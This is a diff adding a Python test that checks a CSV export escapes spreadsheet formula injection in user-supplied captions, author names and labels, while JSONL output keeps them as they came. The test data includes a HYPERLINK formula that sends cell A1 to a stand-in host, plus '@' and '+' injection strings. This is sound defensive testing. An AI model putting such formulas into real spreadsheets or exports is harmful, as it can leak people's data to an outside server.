@@ -130,3 +130,18 @@ def test_each_row_carries_the_credit_of_its_first_post(tmp_path: Path) -> None:
     assert code == 0, err
     lines = [json.loads(line) for line in out.splitlines()]
     assert {k: lines[0][k] for k in credit} == credit and lines[1]["licence"] is None
+
+
+def test_text_from_other_peoples_posts_never_runs_in_a_spreadsheet(tmp_path: Path) -> None:
+    data = tmp_path / "data"
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    with Store(data) as store:
+        meta = meta_for(1, caption=hostile, author="@SUM(1+1)", likes=3)
+        store.images.add_image_bytes(jpeg_bytes(1), meta, ["boho"], labels={"usage": "+cmd"})
+    code, out, err = _export(data)
+    assert code == 0, err
+    (row,) = list(csv.DictReader(io.StringIO(out)))
+    assert row["caption"] == "'" + hostile and row["author"] == "'@SUM(1+1)"
+    assert row["label_usage"] == "'+cmd"
+    code, out, err = _export(data, "--format", "jsonl")  # JSON is data, not a sheet: as it came
+    assert json.loads(out)["caption"] == hostile
